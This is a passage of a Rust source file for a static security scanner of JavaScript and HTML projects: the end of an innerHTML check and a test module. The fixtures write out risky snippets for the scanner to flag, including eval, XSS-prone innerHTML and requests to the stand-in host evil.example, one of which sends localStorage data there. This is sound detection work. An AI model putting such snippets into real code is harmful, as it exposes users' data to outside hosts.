/// without active markup, [`Rule::InlineHandler`] when the HTML carries `on…=`, `<script` or
/// `javascript:`, [`Rule::PossibleInjection`] when it is built from other values.
fn html_value_rule(plain: &[u8], code: &[u8], start: usize) -> Option<Rule> {
    let end = expression_end(code, start).max(start);
    let value = code.get(start..end)?.trim_ascii();
    if value.is_empty() {
        return None;
    }
    // Only literals (and `+` between them): every byte is a quote, blanked text or `+ ( )`.
    let fixed = !contains(value, b"${") && value.iter().all(|b| b"'\"`+() \t\r\n".contains(b));
    let active = ACTIVE_MARKUP.as_ref().is_some_and(|re| re.is_match(plain.get(start..end).unwrap_or_default()));
    match (fixed, active) {
        (_, true) => Some(Rule::InlineHandler),
        (true, false) => None,
        (false, false) => Some(Rule::PossibleInjection),
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use proptest::prelude::*;

    fn rules(path: &str, text: &str) -> Vec<(usize, &'static str)> {
        scan_text(path, text).iter().map(|f| (f.line, f.rule.id())).collect()
    }

    fn js(text: &str) -> Vec<(usize, &'static str)> {
        rules("app.js", text)
    }

    #[test]
    fn every_pattern_compiles() {
        for (i, p) in all_patterns().into_iter().enumerate() {
            assert!(p.is_some(), "pattern #{i} does not compile");
        }
    }

    #[test]
    fn code_built_from_strings_is_flagged() {
        assert_eq!(js("const total = eval(input.value);\n"), vec![(1, "eval")]);
        assert_eq!(js("let x = 1;\nwindow.eval('2 + 2');\n"), vec![(2, "eval")]);
        assert_eq!(js("const f = new Function('a', 'return a * 2');\n"), vec![(1, "new-function")]);
        assert_eq!(js("setTimeout(\"tick()\", 1000);\n"), vec![(1, "string-timer")]);
        assert_eq!(js("setInterval('update()', 500);\n"), vec![(1, "string-timer")]);
        // Functions and names that only look alike are fine.
        assert!(js("setTimeout(() => tick(), 1000);\nsetInterval(update, 500);\n").is_empty());
        assert!(js("page.evaluate(fn);\nconst evaluate = (x) => x;\nmyeval(x);\nobj.eval(x);\n").is_empty());
        assert!(js("function add(a, b) { return a + b; }\nconst f = function () {};\n").is_empty());
    }

    #[test]
    fn comments_and_strings_do_not_count() {
        assert!(js("// eval(userInput);\n/* new Function('x') */\nconst ok = 1;\n").is_empty());
        assert!(js("const x = 1; // setTimeout('tick()', 5)\n").is_empty());
        assert!(js("/*\n * document.cookie = 'a=1';\n * eval(x)\n */\n").is_empty());
        assert!(js("alert('never use eval( here');\nconst tip = \"document.cookie is risky\";\n").is_empty());
        // `//` inside a string or a regex literal is not a comment.
        assert_eq!(js("const u = 'http://x'; eval(a);\n"), vec![(1, "eval")]);
        assert_eq!(js("const s = url.replace(/^https?:\\/\\//, ''); eval(s);\n"), vec![(1, "eval")]);
        assert_eq!(js("const half = total / 2; eval(s); // a / b\n"), vec![(1, "eval")]);
        // Template literals: text is text, `${…}` is code.
        assert!(js("const msg = `eval(${name}) is bad`;\n").is_empty());
        assert_eq!(js("const msg = `${eval(name)}`;\n"), vec![(1, "eval")]);
    }

    #[test]
    fn cookies_and_document_write_are_flagged() {
        assert_eq!(js("document.cookie = 'theme=dark';\n"), vec![(1, "document-cookie")]);
        assert_eq!(js("const c = document.cookie.split(';');\n"), vec![(1, "document-cookie")]);
        assert_eq!(js("document.write('<p>' + name + '</p>');\n"), vec![(1, "document-write")]);
        assert!(js("document.title = 'Cookies';\nconst cookieCount = 3;\n").is_empty());
    }

    #[test]
    fn requests_to_other_sites_are_flagged_and_local_ones_are_not() {
        assert!(js("fetch('/api/todos').then((r) => r.json());\n").is_empty());
        assert!(js("fetch('api/todos');\nfetch(`/api/todos/${id}`, { method: 'DELETE' });\n").is_empty());
        assert!(js("await fetch('http://localhost:3000/api');\n").is_empty());
        assert!(js("await fetch('http://127.0.0.1:8080/x');\nnew WebSocket('ws://[::1]:9000');\n").is_empty());
        assert!(js("fetch(`http://127.0.0.1:${server.address().port}/api/quote`);\n").is_empty());
        assert!(js("fetch(`https://${host}/x`);\nfetch(buildUrl());\n").is_empty());

        let f = scan_text(
            "app.js",
            "async function send() {\n  await fetch('https://evil.example/x', { method: 'POST' });\n}\n",
        );
        assert_eq!(f.len(), 1);
        assert_eq!((f[0].line, f[0].rule, f[0].detail.as_deref()), (2, Rule::ExternalRequest, Some("evil.example")));
        assert_eq!(f[0].snippet, "await fetch('https://evil.example/x', { method: 'POST' });");

        assert_eq!(js("fetch(\"https://user:pw@API.Evil.example:8443/a?b=1\");\n"), vec![(1, "external-request")]);
        assert_eq!(js("fetch('//cdn.evil.example/data.json');\n"), vec![(1, "external-request")]);
        assert_eq!(js("window.fetch(`https://evil.example/u/${id}`);\n"), vec![(1, "external-request")]);
        assert_eq!(js("axios.post('https://evil.example/collect', data);\n"), vec![(1, "external-request")]);
        assert_eq!(js("axios({ method: 'post', url: 'https://evil.example/c' });\n"), vec![(1, "external-request")]);
        assert_eq!(
            js("const api = axios.create({ baseURL: 'https://api.evil.example' });\n"),
            vec![(1, "external-request")]
        );
        assert_eq!(js("$.getJSON('https://evil.example/x.json', cb);\n"), vec![(1, "external-request")]);
        assert_eq!(js("navigator.sendBeacon('https://evil.example/b', payload);\n"), vec![(1, "external-request")]);
        assert_eq!(js("const ws = new WebSocket('wss://chat.evil.example/s');\n"), vec![(1, "external-request")]);
        assert_eq!(js("const es = new EventSource('https://evil.example/stream');\n"), vec![(1, "external-request")]);
        let xhr = "const xhr = new XMLHttpRequest();\nxhr.open('POST', 'https://evil.example/x');\nxhr.send(data);\n";
        assert_eq!(js(xhr), vec![(2, "external-request")]);
        assert!(js("const xhr = new XMLHttpRequest();\nxhr.open('GET', '/api/items');\n").is_empty());
    }

    #[test]
    fn requests_through_a_constant_are_followed() {
        let src = "const API_URL = 'https://api.evil.example/v1';\n\nexport async function load() {\n  const r = await fetch(API_URL + '/items');\n  return r.json();\n}\n";
        let f = scan_text("app.js", src);
        assert_eq!(f.len(), 1);
        assert_eq!((f[0].line, f[0].detail.as_deref()), (4, Some("api.evil.example")));
        let tpl = "const config = { base: 'https://evil.example' };\nfetch(`${config.base}/x`);\n";
        assert_eq!(js(tpl), vec![(2, "external-request")]);
        assert!(js("const API_URL = '/api';\nfetch(API_URL + '/items');\n").is_empty());
        assert!(js("const BASE = 'http://localhost:3000';\nfetch(`${BASE}/items`);\n").is_empty());
    }

    #[test]
    fn injection_needs_more_than_an_innerhtml() {
        // Fixed text is fine, also built from literals only.
        assert!(js("list.innerHTML = '';\nbox.innerHTML = '<p class=\"empty\">Nothing yet</p>';\n").is_empty());
        assert!(js("box.innerHTML = '<b>' + 'Hello' + '</b>';\nif (box.innerHTML === '') {}\n").is_empty());
        assert!(js("el.textContent = name;\n").is_empty());
        // Built from values: a lower-severity possible injection.
        let f = scan_text("app.js", "list.innerHTML = items.map((i) => `<li>${i.name}</li>`).join('');\n");
        assert_eq!((f.len(), f[0].rule, f[0].severity()), (1, Rule::PossibleInjection, Severity::Low));
        assert_eq!(f[0].detail.as_deref(), Some("innerHTML"));
        assert_eq!(js("row.outerHTML += `<tr><td>${name}</td></tr>`;\n"), vec![(1, "possible-injection")]);
        assert_eq!(js("el.insertAdjacentHTML('beforeend', html);\n"), vec![(1, "possible-injection")]);
        assert!(js("el.insertAdjacentHTML('beforeend', '<hr>');\n").is_empty());
        // Inline handlers or scripts in the HTML.
        assert_eq!(js("box.innerHTML = '<img src=x onerror=\"go()\">';\n"), vec![(1, "inline-handler")]);
        assert_eq!(
            js("list.innerHTML +=\n  `<li onclick=\"remove(${i})\">${text}</li>`;\n"),
            vec![(1, "inline-handler")]
        );
        assert_eq!(
            js("const C = () => <div dangerouslySetInnerHTML={{ __html: body }} />;\n"),
            vec![(1, "possible-injection")]
        );
    }

    #[test]
    fn javascript_urls_are_flagged() {
        assert_eq!(js("link.href = 'javascript:alert(1)';\n"), vec![(1, "javascript-url")]);
        assert!(js("if (url.startsWith('javascript:')) return;\n").is_empty());
        let page =
            "<!DOCTYPE html>\n<html>\n<body>\n<a href=\"javascript:void(0)\" id=\"more\">More</a>\n</body>\n</html>\n";
        assert_eq!(rules("index.html", page), vec![(4, "javascript-url")]);
    }

    #[test]
    fn html_pages_are_scanned_in_scripts_handlers_and_tags() {
        let page = r#"<!DOCTYPE html>
<html lang="en">
<head>
  <title>Notes</title>
  <script src="app.js"></script>
  <script src="https://cdn.evil.example/lib.js" defer></script>
  <script src="http://localhost:3000/dev.js"></script>
  <!-- <script src="https://old.example/x.js"></script> eval(x) -->
</head>
<body>
  <p>Never put eval( or document.cookie in your code.</p>
  <button onclick="eval(this.dataset.code)">Run</button>
  <button onclick="save()">Save</button>
  <script>
    // eval(commented)
    const note = localStorage.getItem('note');
    document.getElementById('out').innerHTML = note;
    fetch('https://evil.example/log?n=' + note);
  </script>
</body>
</html>
"#;
        let found = rules("index.html", page);
        assert_eq!(
            found,
            vec![(6, "external-script"), (12, "eval"), (17, "possible-injection"), (18, "external-request")]
        );
        let f = scan_text("index.html", page);
        assert_eq!(f[0].detail.as_deref(), Some("cdn.evil.example"));
    }

    #[test]
    fn external_module_imports_are_flagged() {
        assert_eq!(js("import confetti from 'https://cdn.evil.example/confetti.mjs';\n"), vec![(1, "external-script")]);
        assert_eq!(js("const m = await import(\"https://evil.example/m.js\");\n"), vec![(1, "external-script")]);
        assert!(js("import { add } from './math.js';\nimport test from 'node:test';\n").is_empty());
    }

    #[test]
    fn other_files_are_not_scanned() {
        assert!(rules("notes.md", "eval(x)").is_empty());
        assert!(rules("styles.css", "a { background: url(javascript:alert(1)) }").is_empty());
        assert_eq!(rules("App.TSX", "eval(x)\n"), vec![(1, "eval")]);
    }

    #[test]
    fn messages_name_the_rule_in_both_languages() {
        let f = scan_text("src/app.js", "\nfetch('https://evil.example/x');\n").remove(0);
        let en = f.narration(Lang::En);
        assert!(
            en.starts_with(
                "Security warning: src/app.js:2 [external-request] sends a request to another site (evil.example)"
            ),
            "{en}"
        );
        let pt = f.narration(Lang::Pt);
        assert!(pt.starts_with("Aviso de segurança: src/app.js:2 [external-request] envia uma requisição"), "{pt}");
        for r in Rule::ALL {
            assert_ne!(r.describe(Lang::En, None), r.describe(Lang::Pt, None), "{}", r.id());
        }
    }

    #[test]
    fn the_walk_skips_dependencies_hidden_folders_and_big_files() {
        let dir = tempfile::tempdir().unwrap();
        let root = dir.path();
        let write = |p: &str, s: &str| {
            let path = root.join(p);
            std::fs::create_dir_all(path.parent().unwrap()).unwrap();
            std::fs::write(path, s).unwrap();
        };
        write("index.html", "<script>eval(location.hash)</script>\n");
        write("src/app.js", "const a = 1;\ndocument.cookie = 'a=1';\n");
        write("styles.css", "body{}\n");
        write("node_modules/lib/index.js", "eval(x)\n");
        write(".git/hooks/x.js", "eval(x)\n");
        write("big.js", &format!("eval(x)\n{}", " ".repeat(MAX_FILE_BYTES as usize)));
        let report = scan_project(root);
        assert_eq!(report.files_scanned, 2);
        let got: Vec<(&str, usize, &str)> =
            report.findings.iter().map(|f| (f.file.as_str(), f.line, f.rule.id())).collect();
        assert_eq!(got, vec![("index.html", 1, "eval"), ("src/app.js", 2, "document-cookie")]);
        assert_eq!(scan_project(&root.join("missing")), ScanReport::default());
    }

    #[test]
    fn hosts_are_read_from_urls() {
        assert_eq!(external_host("https://Evil.Example./x").as_deref(), Some("evil.example"));
        assert_eq!(external_host("wss://[2001:db8::1]:443/s").as_deref(), Some("[2001:db8::1]"));
        for local in [
            "http://localhost",
            "http://app.localhost:5173/",
            "https://127.0.0.1",
            "http://[::1]:3000",
            "http://0.0.0.0:80",
        ] {
            assert_eq!(external_host(local), None, "{local}");
        }
        for other in
            ["/api", "api/x", "./x", "mailto:a@b.c", "data:text/plain,hi", "https://", "http://127.0.0.1.evil.example"]
        {
            assert_eq!(external_host(other).is_some(), other.contains("evil"), "{other}");
        }
    }

    proptest! {
        #[test]
        fn scanning_never_panics(text in ".{0,400}", html in any::<bool>()) {
            let _ = scan_text(if html { "a.html" } else { "a.js" }, &text);
        }

        #[test]
        fn scanning_js_like_noise_never_panics(
            parts in proptest::collection::vec(
                prop_oneof![
                    Just("'"), Just("\""), Just("`"), Just("${"), Just("}"), Just("{"), Just("/"), Just("*"),
                    Just("\\"), Just("\n"), Just("eval("), Just(".innerHTML = "), Just("fetch("), Just("<script>"),
                    Just("</script>"), Just("<!--"), Just("-->"), Just(" onclick=\""), Just("https://e.x/"),
                    Just("é"), Just("("), Just(")"), Just(","), Just(";"), Just("insertAdjacentHTML("), Just("["),
                ],
                0..80,
            ),
            html in any::<bool>(),
        ) {
            let text: String = parts.concat();
            for f in scan_text(if html { "a.html" } else { "a.js" }, &text) {
                prop_assert!(f.line >= 1 && f.line <= text.lines().count().max(1) + 1);
            }
        }
    }
}
